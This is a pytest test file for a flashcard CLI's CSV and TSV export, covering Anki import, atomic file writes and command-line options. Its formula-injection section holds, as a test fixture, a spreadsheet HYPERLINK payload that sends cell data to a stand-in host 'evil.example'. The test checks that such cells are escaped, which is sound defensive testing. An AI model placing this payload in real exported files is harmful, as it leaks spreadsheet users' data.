"""CSV / TSV export: read back with the csv module and imported with Anki's own text importer."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from anki.collection import Collection, ImportCsvRequest
from click.testing import CliRunner

from brokerquiz.cli import cli
from brokerquiz.core.cards import generate_cards
from brokerquiz.core.csvexport import ExportError, export_text, render, write_atomically
from brokerquiz.core.deck import load_deck
from brokerquiz.core.library import open_deck

DECK_YAML = """\
id: txt
title: Text export
language: en
subjects:
  kafka: Kafka
  redis: Redis Streams
tables:
  perf:
    title: Performance
    rows:
      latency:
        label: Latency
        kafka: a few ms, "fast"
        redis: <1ms & more
      shape:
        label: Shape
        kafka: |-
          line one
          line two\twith a tab
        redis: log
"""


@pytest.fixture
def deck_file(tmp_path) -> Path:
    path = tmp_path / "txt.yaml"
    path.write_text(DECK_YAML, encoding="utf-8")
    return path


@pytest.fixture
def cards(deck_file):
    return generate_cards(load_deck(deck_file))


def by_id(cards, card_id):
    return next(c for c in cards if c.id == card_id)


def test_csv_round_trips_through_the_csv_module(cards):
    rows = list(csv.reader(io.StringIO(render(cards, "en"))))
    assert rows[0] == ["front", "back", "tags"]
    assert len(rows) == len(cards) + 1
    found = {row[0]: row for row in rows[1:]}
    shape = found["Kafka — Shape?"]
    assert shape[1] == "line one\nline two\twith a tab"
    assert shape[2] == "deck::txt kind::fact table::perf row::shape subject::kafka"
    assert found["Kafka — Latency?"][1] == 'a few ms, "fast"'
    assert found["Redis Streams — Latency?"][1] == "<1ms & more"  # CSV is plain text


def test_choices_are_numbered_on_the_front_and_the_back_says_which(cards):
    rows = list(csv.reader(io.StringIO(render(cards, "en"))))
    reverse = next(r for r in rows if r[0].startswith("Which subject? Latency: “<1ms"))
    assert reverse[0] == "Which subject? Latency: “<1ms & more”\n1. Kafka\n2. Redis Streams"
    assert reverse[1] == "Redis Streams\nRight: 2. Redis Streams"


def test_russian_labels_for_a_russian_deck():
    deck, generated = open_deck("message-brokers")
    text = render(generated, deck.language)
    assert "Верно: " in text and "Right: " not in text
    assert "Сравните «Модель»" in text


def test_tsv_is_one_line_per_card_with_html_fields(cards):
    lines = render(cards, "en", tsv=True).split("\n")
    assert lines[-1] == ""
    lines = lines[:-1]
    assert lines[0] == "front\tback\ttags"
    assert len(lines) == len(cards) + 1
    assert all(line.count("\t") == 2 for line in lines)
    found = {line.split("\t")[0]: line.split("\t") for line in lines[1:]}
    assert found["Kafka — Shape?"][1] == "line one<br>line two with a tab"
    assert found["Redis Streams — Latency?"][1] == "&lt;1ms &amp; more"


def test_anki_header_lines():
    assert render([], "en", anki_header=True) == (
        "#separator:Comma\n#html:false\n#tags column:3\n#columns:Front,Back,Tags\n"
    )
    assert render([], "en", tsv=True, anki_header=True) == (
        "#separator:Tab\n#html:true\n#tags column:3\n#columns:Front\tBack\tTags\n"
    )


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_anki_imports_the_file_as_intended(cards, tmp_path, tsv):
    path = tmp_path / ("cards.tsv" if tsv else "cards.csv")
    export_text(cards, path, "en", tsv=tsv, anki_header=True)
    col = Collection(str(tmp_path / "collection.anki2"))
    try:
        metadata = col.get_csv_metadata(str(path), None)
        col.import_csv(ImportCsvRequest(path=str(path), metadata=metadata))
        assert col.note_count() == len({c.front for c in cards}) == len(cards)
        nid = col.find_notes('"Front:Kafka — Shape?"')[0]
        note = col.get_note(nid)
        assert note.fields == ["Kafka — Shape?", "line one<br>line two" + (" " if tsv else "\t") + "with a tab"]
        assert note.tags == ["deck::txt", "kind::fact", "row::shape", "subject::kafka", "table::perf"]
        latency = col.get_note(col.find_notes('"Front:Redis Streams — Latency?"')[0])
        assert latency["Back"] == "&lt;1ms &amp; more"
    finally:
        col.close()


def test_export_text_writes_utf8(tmp_path):
    deck, generated = open_deck("message-brokers")
    path = tmp_path / "ru.csv"
    assert export_text(generated, path, deck.language) == len(generated)
    assert path.read_bytes().decode("utf-8") == render(generated, deck.language)


def test_write_atomically_keeps_the_old_file_when_writing_fails(tmp_path):
    target = tmp_path / "cards.csv"
    target.write_text("old", encoding="utf-8")

    def half(tmp: Path) -> None:
        tmp.write_text("front,back", encoding="utf-8")
        raise RuntimeError("disk pulled out")

    with pytest.raises(RuntimeError):
        write_atomically(target, half)
    assert target.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["cards.csv"]


def test_write_atomically_names_a_missing_folder(tmp_path):
    with pytest.raises(ExportError) as error:
        write_atomically(tmp_path / "no" / "x.csv", lambda tmp: None)
    assert str(error.value) == f"cannot write {tmp_path / 'no' / 'x.csv'}: folder {tmp_path / 'no'} does not exist"


def test_write_atomically_leaves_a_target_that_is_not_a_regular_file_alone(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)  # like -o /dev/null: renaming over it would replace the device
    with pytest.raises(ExportError) as error:
        write_atomically(fifo, lambda tmp: tmp.write_text("x", encoding="utf-8"))
    assert str(error.value) == f"cannot write {fifo}: not a regular file"
    assert stat.S_ISFIFO(fifo.stat().st_mode) and [p.name for p in tmp_path.iterdir()] == ["pipe"]


# --- the command line -------------------------------------------------------------------------


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_cli_default_file_name(deck_file, cards, tmp_path, monkeypatch, ext):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    result = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck_file)])
    assert result.exit_code == 0, result.output
    assert result.output == f"wrote txt.{ext}: {len(cards)} cards from txt\n"
    assert (work / f"txt.{ext}").read_text(encoding="utf-8") == render(cards, "en", tsv=ext == "tsv")


def test_cli_dash_writes_stdout(deck_file, cards):
    result = CliRunner().invoke(cli, ["export", "csv", "--deck", str(deck_file), "-o", "-"])
    assert result.exit_code == 0
    assert result.stdout == render(cards, "en")
    assert result.stderr == f"{len(cards)} cards from txt\n"


def test_cli_output_and_anki_header(deck_file, cards, tmp_path):
    target = tmp_path / "out.txt"
    result = CliRunner().invoke(cli, ["export", "tsv", "--deck", str(deck_file), "-o", str(target), "--anki-header"])
    assert result.exit_code == 0, result.output
    assert target.read_text(encoding="utf-8").startswith("#separator:Tab\n")


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_cli_missing_folder(deck_file, tmp_path, ext):
    target = tmp_path / "missing" / f"x.{ext}"
    result = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck_file), "-o", str(target)])
    assert result.exit_code == 1
    assert result.output == f"error: cannot write {target}: folder {target.parent} does not exist\n"


def test_cli_help_has_examples():
    runner = CliRunner()
    for args in (["export"], ["export", "anki"], ["export", "csv"], ["export", "tsv"]):
        result = runner.invoke(cli, [*args, "--help"])
        assert result.exit_code == 0
        assert "Example" in result.output and "brokerquiz export" in result.output


def test_write_atomically_names_an_unwritable_folder(tmp_path, monkeypatch):
    # chmod cannot make a folder unwritable for root, so the OS refusal is simulated where it happens
    def refuse(*args, **kwargs):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("brokerquiz.core.atomic_write._anonymous", lambda folder: None)  # no O_TMPFILE here
    monkeypatch.setattr("brokerquiz.core.atomic_write.tempfile.mkstemp", refuse)
    with pytest.raises(ExportError) as error:
        write_atomically(tmp_path / "x.csv", lambda tmp: None)
    assert str(error.value) == f"cannot write {tmp_path / 'x.csv'}: permission denied"
    assert list(tmp_path.iterdir()) == []


# --- formula injection (https://owasp.org/www-community/attacks/CSV_Injection) -----------------

FORMULA_YAML = """\
id: formula
title: Formulas
language: en
subjects:
  a: "=HYPERLINK(\\"http://evil.example/?\\"&A1)"
  b: Plain
tables:
  t:
    title: T
    rows:
      r:
        label: L
        a: "+1 partition"
        b: "- a bullet"
      s:
        label: S
        a: "-"
        b: ok
"""


@pytest.fixture
def formula_cards(tmp_path):
    path = tmp_path / "formula.yaml"
    path.write_text(FORMULA_YAML, encoding="utf-8")
    cards = generate_cards(load_deck(path))
    # the deck reader strips a leading tab; a card from elsewhere (a database row) may still have one
    return [*cards, cards[0]._replace(id="x/1", front="@SUM(A1:A9)", back="\tcmd", tags=("-x",))]


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def tsv_cells(text: str) -> list[str]:
    return [cell for line in text.splitlines() for cell in line.split("\t")]


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_no_cell_starts_like_a_formula(formula_cards, tsv):
    cells = (tsv_cells if tsv else csv_cells)(render(formula_cards, "en", tsv=tsv))
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'+1 partition" in cells and "'- a bullet" in cells and "'-" in cells  # uniformly, legit text too
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert any(cell.startswith("'@SUM(A1:A9)") for cell in cells)
    assert (" cmd" if tsv else "'\tcmd") in cells  # TSV turns the tab into a space: no formula then
    assert "ok" in cells and "'-x" in cells  # only cells that would be formulas change; tags too


@pytest.mark.parametrize("tsv", [False, True], ids=["csv", "tsv"])
def test_raw_writes_formula_cells_as_they_are(formula_cards, tsv):
    cells = (tsv_cells if tsv else csv_cells)(render(formula_cards, "en", tsv=tsv, raw=True))
    assert "+1 partition" in cells and "- a bullet" in cells and "-" in cells
    assert not [cell for cell in cells if cell.startswith("'")]


@pytest.mark.parametrize("ext", ["csv", "tsv"])
def test_cli_escapes_unless_raw(formula_cards, tmp_path, ext):
    deck = tmp_path / "formula.yaml"
    safe = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", "-"])
    raw = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", "-", "--raw"])
    assert safe.exit_code == raw.exit_code == 0
    assert safe.stdout == render(formula_cards[:-1], "en", tsv=ext == "tsv")
    assert raw.stdout == render(formula_cards[:-1], "en", tsv=ext == "tsv", raw=True) != safe.stdout
    target = tmp_path / f"out.{ext}"
    written = CliRunner().invoke(cli, ["export", ext, "--deck", str(deck), "-o", str(target), "--raw"])
    assert written.exit_code == 0 and target.read_text(encoding="utf-8") == raw.stdout


def test_help_documents_raw_and_force():
    for ext in ("csv", "tsv"):
        text = " ".join(CliRunner().invoke(cli, ["export", ext, "--help"]).output.split())
        assert "--raw" in text and "leading '" in text and "--force" in text
    assert "--force" in CliRunner().invoke(cli, ["export", "anki", "--help"]).output
